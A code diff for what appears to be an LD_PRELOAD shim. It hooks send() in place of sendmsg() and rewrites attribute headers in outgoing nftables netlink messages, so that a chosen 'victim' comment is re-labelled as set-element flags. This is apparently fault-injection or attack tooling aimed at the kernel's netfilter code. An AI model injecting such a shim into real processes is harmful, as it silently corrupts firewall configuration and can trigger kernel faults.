@@ -7,7 +7,6 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
-#include <sys/uio.h>
 
 enum { NFTA_SET_ELEM_FLAGS = 3, NFTA_SET_ELEM_USERDATA = 6 };
 
@@ -19,8 +18,8 @@ static size_t read_victim(char *name, size_t size) {
     return length;
 }
 
-static void spoil(const struct iovec *part, const char *name, size_t length) {
-    char *base = part->iov_base, *end = base + part->iov_len, *at = base;
+static void spoil(char *base, size_t size, const char *name, size_t length) {
+    char *end = base + size, *at = base;
     while ((at = memmem(at, end - at, name, length))) {
         /* The comment is behind type and length of its own and those of the attribute: struct nlattr, 2 bytes each. */
         unsigned short type = NFTA_SET_ELEM_FLAGS;
@@ -29,11 +28,11 @@ static void spoil(const struct iovec *part, const char *name, size_t length) {
     }
 }
 
-ssize_t sendmsg(int descriptor, const struct msghdr *message, int flags) {
-    static ssize_t (*real)(int, const struct msghdr *, int);
-    if (!real) real = (ssize_t (*)(int, const struct msghdr *, int))dlsym(RTLD_NEXT, "sendmsg");
+ssize_t send(int descriptor, const void *message, size_t size, int flags) {
+    static ssize_t (*real)(int, const void *, size_t, int);
+    if (!real) real = (ssize_t (*)(int, const void *, size_t, int))dlsym(RTLD_NEXT, "send");
     char name[256];
     size_t length = read_victim(name, sizeof name);
-    for (size_t i = 0; length && i < message->msg_iovlen; i++) spoil(&message->msg_iov[i], name, length);
-    return real(descriptor, message, flags);
+    if (length) spoil((char *)message, size, name, length);
+    return real(descriptor, message, size, flags);
 }
